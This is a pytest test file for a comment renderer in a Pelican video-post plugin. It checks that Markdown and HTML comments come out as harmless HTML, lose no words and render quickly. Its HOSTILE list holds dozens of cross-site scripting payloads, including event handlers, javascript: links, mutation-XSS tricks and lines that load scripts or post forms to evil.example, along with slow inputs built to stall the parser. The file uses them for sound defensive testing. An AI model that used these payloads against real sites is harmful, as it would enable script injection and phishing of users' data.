"""A comment's text as HTML: nothing in it can act, and nothing of it is lost."""

import re
import time
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pelican_videopost.comments.text import plain, render

ELEMENTS = set("a b blockquote br code del em hr i kbd li ol p pre q s strong sub sup u ul".split())
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x' onclick='alert(1)' style='x:expression(alert(1))' id=comments class=admin name=x>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](https://example.org \"onmouseover=alert(1)\")",
    "[x](https://example.org\"onmouseover=\"alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "<https://example.org\"onclick=alert(1)>",
    "https://example.org/\"onmouseover=alert(1)//",
    "https://example.org/<script>alert(1)</script>",
    "**<b onclick=alert(1)>x**</b>",
    "<b/onclick=alert(1)>x</b>",
    "<b\nonclick=alert(1)>x</b>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div id=respond><form action=//evil.example><input name=email></form></div>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml version='1.0'?>",
    "</li></ol></section><h1>x</h1>",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onclick=alert(1)\nx\n```",
    "~~~{.x onclick=alert(1) #comments}\nx\n~~~",
    "    </pre><script>alert(1)</script>",
    "# Heading {: onclick=alert(1)}",
    "<<script>script>alert(1)<</script>/script>",
    "\x02wzxhzdk:0\x03 \x02amp\x03 \x02klzzwxh:0001\x03",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "{{ 7*7 }} {% include 'x' %}",
    "\ud800<script>alert(1)</script>".encode(errors="replace").decode(),
]  # fmt: skip


def assert_harmless(html: str) -> None:
    """Check that a fragment holds nothing but known elements, with nothing on them but links to the web."""
    assert not re.search("[\x00-\x08\x0b-\x1f]", html)
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        assert element.name in ELEMENTS
        attributes = dict(element.attrs)
        if element.name == "a":
            assert attributes.pop("rel") == ["ugc", "external", "nofollow", "noopener"]
            href = attributes.pop("href", "https://x")
            assert re.match(r"https?://[^/]|mailto:", str(href), re.IGNORECASE), href
        if element.name == "ol":
            assert str(attributes.pop("start", "1")).isdecimal()
        assert attributes == {}


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_gets_through(text: str) -> None:
    """Scripts, handlers, styles, ids and other addresses do not reach the page, alone or among other text."""
    for around in ("{}", "Hello {} there", "> {}", "- {}", "**{}**", "[{}](https://example.org)"):
        assert_harmless(render(around.replace("{}", text)))


@settings(max_examples=300, deadline=None)
@example('[]("([][0]\r[0]:0')
@given(
    st.text(max_size=80)
    | st.lists(st.sampled_from(HOSTILE + list("<>[]()*`_!#&\"'\n \x02\x03")), max_size=6).map("".join)
)
def test_nothing_at_all_gets_through(text: str) -> None:
    """No mixture of hostile pieces makes anything but harmless HTML."""
    assert_harmless(render(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One\ntwo", "<p>One<br>\ntwo</p>"),
        ("**Yes** and _no_", "<p><strong>Yes</strong> and <em>no</em></p>"),
        ("<b>old</b> <u>ways</u>", "<p><b>old</b> <u>ways</u></p>"),
        ("if a<b and c>d: <div>", "<p>if a&lt;b and c&gt;d: &lt;div&gt;</p>"),
        ("#1 is best", "<p>#1 is best</p>"),
        ("> quoted\n\nyes", "<blockquote>\n<p>quoted</p>\n</blockquote>\n<p>yes</p>"),
        ("3. three\n4. four", '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>'),
        ("```js\nlet a = 1 < 2\n```", "<pre><code>let a = 1 &lt; 2\n</code></pre>"),
        ("![alt](x.png)", "<p>![alt](x.png)</p>"),
        ("See https://example.org/a_b_c.", '<p>See <a href="https://example.org/a_b_c" rel="{}">https://example.org/a_b_c</a>.</p>'),
        ("https://example.org/a<style>", '<p><a href="https://example.org/a" rel="{}">https://example.org/a</a>&lt;style&gt;</p>'),
        ("[x](https://example.org)", '<p><a href="https://example.org" rel="{}">x</a></p>'),
        ("<script>x</script>", "<p>&lt;script&gt;x&lt;/script&gt;</p>"),
        ("*a **b** c* ***h***", "<p><em>a <strong>b</strong> c</em> <strong><em>h</em></strong></p>"),
        ("_d_ __e f_g__ __h _i_ j__", "<p><em>d</em> <strong>e f_g</strong> <strong>h <em>i</em> j</strong></p>"),
        ("2 * 3 * 4, snake_case_name, 2*3*4", "<p>2 * 3 * 4, snake_case_name, 2<em>3</em>4</p>"),
        ("`a` ``b`c`` \\\\`d` \\`e", "<p><code>a</code> <code>b`c</code> \\<code>d</code> `e</p>"),
        ("[a [b] *c*](https://a.b/d_(e))", '<p><a href="https://a.b/d_(e)" rel="{}">a [b] <em>c</em></a></p>'),
        ("<a@b.example>", '<p><a href="mailto:a@b.example" rel="{}">a@b.example</a></p>'),
        ("<https://a.example>", '<p><a href="https://a.example" rel="{}">https://a.example</a></p>'),
        ('<a title="x" href="https://a.b/?a&amp;b" on=y>z</a>', '<p><a href="https://a.b/?a&amp;b" rel="{}">z</a></p>'),
        ("", ""),
    ],
)  # fmt: skip
def test_what_people_write_looks_as_they_mean_it(text: str, html: str) -> None:
    """Markdown and old HTML work, headings and pictures are text, and what may not be is shown as typed."""
    assert render(text) == html.replace("{}", "ugc external nofollow noopener")


def test_a_preview_has_no_markup() -> None:
    """The words alone are safe in any text."""
    assert plain(render("**a** <b>b</b> <script>")) == "a b &lt;script&gt;"


VANISHING = [
    "[Spoiler]: dies",
    "[1]: http://example.org/",
    "See [1].\n\n[1]: http://example.org/ 'The title'",
    "[a][b]\n\n[b]: c\n  'd'",
    "[the film](ftp://example.org/film)",
    "[the film](film.html)",
    "[the film](https://example.org 'the title')",
    "<a href='ftp://example.org/film'>the film</a>",
    "<ftp://example.org/film>",
    "<b title=x>bold</b>",
    "<b>",
    "<br>",
    "<p></p>",
    "&nbsp;",
    "&shy;",
    "<!-- dies -->",
    "<? dies ?>",
    "<![CDATA[dies]]>",
    "<div title=`dies`>",
    "```\n```",
    "*[dies]: x",
    "[^1]: dies",
    "[]: <>",
    "123456789. dies",
    "> [Spoiler]: dies",
    "- [Spoiler]: dies",
]


def seen(html: str) -> str:
    """Return what a reader sees of a fragment."""
    return BeautifulSoup(html, "html.parser").get_text()


@pytest.mark.parametrize("text", VANISHING)
def test_no_comment_vanishes(text: str) -> None:
    """What Markdown would take for a reference, a link to elsewhere or nothing at all is there to be read."""
    words = re.findall(r"\w+", re.sub(r"<b title=x>|^<p></p>$", "", text)) if "&" not in text else [text]
    shown = seen(render(text)) + render(text)
    assert [word for word in words if word not in shown] == []
    assert plain(render(text))


PIECES = (
    "* ** *** _ __ ` `` [ ] ( ) [ ]( ]: ![ < > \" ' \\ & # ! . , : - + = ~ ~~~ ``` > | { } \n \n\n    ftp:// mailto: http://"
    " https://example.org/ [^ <!-- --> <b> </b> <i <script> </script> <a/href= <u> {#"
).split(" ")


@settings(max_examples=400, deadline=None)
@example(["[", "]:", ""])
@example(["```", "\n\n", "```", "", ""])
@given(st.lists(st.sampled_from([*PIECES, "\n", " "]), max_size=24))
def test_every_word_of_a_comment_is_in_its_rendering(pieces: list[str]) -> None:
    """Among any marks at all, each word that is no part of a tag and no language of code is seen, or is a link."""
    text = "".join(
        f"{piece.replace('/', ' ') if piece[:2] == '<a' else piece}word{number}x "
        for number, piece in enumerate(pieces)
    )
    html = render(text)
    attributes = " ".join(re.findall(r"<(?:[biu]|a)\b[^<>]*>|^[ ]*(?:```|~~~).*$", text, re.MULTILINE))
    lost = {word for word in re.findall(r"word\d+x", text) if word not in html}
    assert lost <= set(re.findall(r"word\d+x", attributes))


def costly(unit: str, filler: str = "") -> str:
    """Return 64 KB of a unit, or of as many as may just be read, with a filler between or behind them."""
    marks = len(re.findall(r"[*_`\[<&\\\n]|https?:", unit)) or 1
    number = min(65000 // len(unit), 2450 // marks)
    return unit * number + (filler * 65000)[: 65000 - number * len(unit)]


SLOW = [
    *(
        "*a* ",
        "**a** ",
        "_a_ ",
        "*a **b",
        "**a *b",
        "***a",
        "`a` ",
        "``a ",
        "`\n",
        "a\n",
        "a\n\n",
        "*a*\n\n",
        "> a\n\n",
    ),
    *(
        "<b>",
        "<b x=1>",
        "<ul><li>",
        "<a href=http://b>",
        "<",
        "&",
        "&amp;",
        "[",
        "[a](",
        "[[a]](",
        "[a](http://b",
        "![",
        "\\",
    ),
    *(
        "http://",
        "http://a ",
        "<a@b.c> ",
        "- a\n",
        "1. ",
        "> - ",
        "- > ",
        ">",
        "a>",
        "> - - - - - x\n",
        "~~~a\n",
        "~~~\n",
        "```",
        "_",
    ),
    "\n".join("    " * depth + "- a" for depth in range(100)),
]


@pytest.mark.parametrize("filler", ["", "a ", "_a", ")", "]"])
@pytest.mark.parametrize("unit", SLOW)
def test_no_text_takes_long(unit: str, filler: str) -> None:
    """64 KB made to be slow, of as many marks as are read at all, take 0.2 seconds; here a busy machine has five."""
    text = costly(unit, filler)
    began = time.process_time()
    html = render(text)
    assert time.process_time() - began < 5
    assert_harmless(html[:20_000].rpartition("<")[0])


def test_a_text_with_more_marks_than_anybody_writes_is_shown_as_typed() -> None:
    """64 KB of stars are not read as Markdown; every one of them is there."""
    assert render("*a* " * 16000) == "<p>" + ("*a* " * 16000).rstrip() + "</p>"
    assert render("**after**") == "<p><strong>after</strong></p>"


def test_no_honest_comment_is_too_much() -> None:
    """A whole README, dense as it is, and 60 KB of a program between fences are read as Markdown."""
    root = Path(__file__).parents[2]
    readme = re.sub(r"\A.*?\n\n", "", (root / "README.md").read_text(encoding="utf-8"), flags=re.DOTALL)[:20_000]
    assert "</strong>" in render("**Look:**\n\n" + readme)
    program = (root / "pelican_videopost" / "base" / "markup.py").read_text(encoding="utf-8") * 8
    assert "</pre>" in render(f"```python\n{program[:60_000]}\n```")
